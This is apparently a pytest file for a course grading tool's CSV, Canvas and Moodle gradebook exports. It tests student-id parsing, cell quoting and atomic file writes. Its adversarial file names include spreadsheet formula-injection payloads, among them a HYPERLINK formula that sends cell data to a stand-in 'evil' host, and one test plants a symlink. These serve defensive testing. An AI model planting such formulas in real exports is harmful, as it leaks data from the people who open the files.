"""Student ids, and the gradebook in three shapes, each read back with the csv module."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wslab.grading.gradebook import (
    CANVAS_ID_COLUMNS,
    POINTS_POSSIBLE,
    compile_id_pattern,
    csv_cell,
    csv_value,
    gradebook_text,
    place,
    student_id,
    write_gradebook,
)
from wslab.grading.grader import CheckOutcome, Outcome
from wslab.grading.registry import get_exercise


def _outcome(name: str, student: str, exercise: str | None = "readystate", lost: int = 0,
             status: str = "ok") -> Outcome:
    """An outcome that failed its first ``lost`` checks."""
    ex = get_exercise(exercise) if exercise else None
    checks = [CheckOutcome(c, "fail" if i < lost else "pass", "") for i, c in enumerate(ex.checks)] if ex else []
    return Outcome(Path(name), name, ex, status, checks, student=student)


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --------------------------------------------------------------------------- ids


def test_the_default_id_is_the_folder_or_what_comes_before_the_first_underscore() -> None:
    assert student_id("ada_04-chat.ipynb") == ("ada", "")
    assert student_id("ada/04-chat.ipynb") == ("ada", "")
    assert student_id("ada_lovelace/04-chat.ipynb") == ("ada_lovelace", "")
    assert student_id("section-1/ada/04-chat.ipynb") == ("section-1", "")
    assert student_id("student07_chat-sleeps-in-cell.ipynb") == ("student07", "")
    for name in ("chat-ada.ipynb", "04-chat.ipynb", "Ada - 04-Chat (1).ipynb", "_04-chat.ipynb"):
        sid, note = student_id(name)
        assert sid == "" and "no student id" in note, name


def test_the_metadata_is_the_fallback_and_the_file_name_wins_a_disagreement() -> None:
    meta = {"wslab": {"student": " grace ", "exercise": "chat"}}
    assert student_id("04-chat.ipynb", meta) == ("grace", "")
    sid, note = student_id("ada_04-chat.ipynb", meta)
    assert sid == "ada" and "metadata says it is grace's" in note and "goes by the file name" in note
    assert student_id("ada_04-chat.ipynb", {"wslab": {"student": "ada"}}) == ("ada", "")
    for odd in ({"wslab": {"student": 7}}, {"wslab": "x"}, {"wslab": {"student": "   "}}, None, {}):
        assert student_id("04-chat.ipynb", odd)[0] == ""  # type: ignore[arg-type]


def test_an_id_pattern_names_its_group_and_bad_ones_are_refused_clearly() -> None:
    canvas = compile_id_pattern(r"^[^_]+_(?:late_|LATE_)?(?P<id>\d+)_")
    assert student_id("lovelaceada_12345_67890_04-chat.ipynb", None, canvas) == ("12345", "")
    assert student_id("lovelaceada_late_12345_67890_04-chat.ipynb", None, canvas) == ("12345", "")
    assert student_id("04-chat.ipynb", None, canvas)[0] == ""
    with pytest.raises(ValueError, match="named group"):
        compile_id_pattern(r"^([^_]+)_")
    with pytest.raises(ValueError, match="not a regular expression"):
        compile_id_pattern(r"(?P<id>[")


# --------------------------------------------------------------------------- cells


@given(st.text())
def test_csv_cells_round_trip(value: str) -> None:
    assert csv_value(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted", "＝1", "=HYPERLINK(\"a\")"])
def test_a_cell_that_could_be_a_formula_starts_with_a_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_cell("ada") == "ada" and csv_cell("") == ""


# --------------------------------------------------------------------------- the three shapes

CLASS = [
    _outcome("ada_02-readystate.ipynb", "ada"),
    _outcome("ada_04-chat.ipynb", "ada", "chat", lost=2),
    _outcome("bob_02-readystate.ipynb", "bob", lost=3),
    _outcome("bob_02-readystate (1).ipynb", "bob", lost=1),  # a second try: the better one counts
    _outcome("mystery.ipynb", "", None, status="unknown-exercise"),
    _outcome("cy_broken.ipynb", "cy", None, status="invalid-notebook"),
]


def test_csv_has_a_student_column_a_points_row_and_a_row_per_submission() -> None:
    rows = _read(gradebook_text(CLASS))
    header, points, *data = rows
    checks = [c.column for c in get_exercise("readystate").checks + get_exercise("chat").checks]
    assert header == ["student", "submission", "exercise", "status", *checks, "total", "max"]
    assert points == [POINTS_POSSIBLE, "", "", "", *[str(c.points) for ex in ("readystate", "chat")
                                                      for c in get_exercise(ex).checks], "", ""]
    assert [r[1] for r in data] == sorted(o.name for o in CLASS)
    by = {r[1]: dict(zip(header, r, strict=True)) for r in data}
    assert by["bob_02-readystate.ipynb"]["student"] == "bob" and by["mystery.ipynb"]["student"] == ""
    assert by["ada_04-chat.ipynb"]["total"] == str(CLASS[1].total) and by["ada_04-chat.ipynb"]["max"] == "32"
    assert by["ada_04-chat.ipynb"]["readystate/state_names"] == ""  # another exercise's check
    assert by["cy_broken.ipynb"]["status"] == "invalid-notebook" and by["cy_broken.ipynb"]["total"] == "0"


def test_canvas_reads_back_with_its_columns_points_and_one_row_per_student() -> None:
    header, points, *data = _read(gradebook_text(CLASS, "canvas"))
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "02-readystate", "04-chat"]
    assert points == [POINTS_POSSIBLE, "", "", "", "", "9", "32"]
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in data}
    assert set(rows) == {"ada", "bob"}  # mystery has no id, cy's notebook no exercise
    assert rows["ada"]["SIS Login ID"] == "ada" and rows["ada"]["ID"] == rows["ada"]["SIS User ID"] == ""
    assert rows["ada"]["02-readystate"] == "9" and rows["ada"]["04-chat"] == str(CLASS[1].total)
    assert rows["bob"]["02-readystate"] == str(CLASS[3].total) and rows["bob"]["04-chat"] == ""
    for choice, column in CANVAS_ID_COLUMNS.items():
        h, _, *d = _read(gradebook_text(CLASS, "canvas", id_column=choice))
        assert [dict(zip(h, r, strict=True))[column] for r in d] == ["ada", "bob"]


def test_moodle_reads_back_with_an_identifier_a_grade_and_a_feedback_column_per_exercise() -> None:
    header, *data = _read(gradebook_text(CLASS, "moodle"))
    assert header == ["Identifier", "02-readystate", "02-readystate feedback", "04-chat", "04-chat feedback"]
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in data}
    assert set(rows) == {"ada", "bob"}  # no points row: Moodle would look for a student called that
    assert rows["ada"]["02-readystate"] == "9" and rows["ada"]["02-readystate feedback"] == "9/9 points (ok)."
    chat = get_exercise("chat").checks
    assert rows["ada"]["04-chat feedback"] == (
        f"{CLASS[1].total}/32 points (ok); not passed: {chat[0].title}; {chat[1].title}."
    )
    assert rows["bob"]["04-chat"] == rows["bob"]["04-chat feedback"] == ""


def test_place_says_which_submission_counts_and_what_has_no_place() -> None:
    placed = place(CLASS)
    assert [ex.name for ex in placed.exercises] == ["readystate", "chat"]
    assert placed.grades["bob"]["readystate"].name == "bob_02-readystate (1).ipynb"
    assert [o.name for o in placed.duplicates[("bob", "readystate")]] == [
        "bob_02-readystate (1).ipynb", "bob_02-readystate.ipynb"
    ]
    assert [(o.name, why) for o, why in placed.left_out] == [
        ("cy_broken.ipynb", "no exercise (invalid-notebook)"), ("mystery.ipynb", "no student id")
    ]
    tie = place([_outcome("b.ipynb", "x"), _outcome("a.ipynb", "x")])
    assert tie.grades["x"]["readystate"].name == "a.ipynb"


ADVERSARIAL = [
    "=HYPERLINK(\"http://evil/?\"&A1,\"click\").ipynb", "+1.ipynb", "-2.ipynb", "@SUM(A1).ipynb",
    "\tTAB.ipynb", "'quoted.ipynb", "comma, \"quote\".ipynb", "new\nline.ipynb", "cr\rhere.ipynb",
    "日本語.ipynb", "folder/＝fullwidth.ipynb",
]


@pytest.mark.parametrize("shape", ["csv", "canvas", "moodle"])
def test_adversarial_names_and_ids_round_trip_exactly_and_never_start_a_formula(shape: str) -> None:
    outcomes = [_outcome(n, n.removesuffix(".ipynb")) for n in ADVERSARIAL]
    text = gradebook_text(outcomes, shape)
    rows = _read(text)
    for row in rows:
        for cell in row:
            assert not re.match(r"[=+\-@\t\r＝]", cell), (shape, cell)
    values = [[csv_value(c) for c in r] for r in rows]
    if shape == "csv":
        assert sorted(r[1] for r in values[2:]) == sorted(ADVERSARIAL)
        assert sorted(r[0] for r in values[2:]) == sorted(n.removesuffix(".ipynb") for n in ADVERSARIAL)
    else:
        first = 2 if shape == "canvas" else 1
        assert sorted(r[0] for r in values[first:]) == sorted(n.removesuffix(".ipynb") for n in ADVERSARIAL)


def test_unknown_shapes_are_refused_and_the_gradebook_is_written_atomically(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="choose one of csv, canvas, moodle"):
        gradebook_text(CLASS, "excel")
    with pytest.raises(ValueError, match="Canvas id column"):
        gradebook_text(CLASS, "canvas", id_column="email")
    target = tmp_path / "gradebook.csv"
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    target.symlink_to(victim)
    write_gradebook(CLASS, target, "canvas")
    assert victim.read_text() == "keep me" and not target.is_symlink()
    assert target.read_bytes() == gradebook_text(CLASS, "canvas").encode("utf-8")
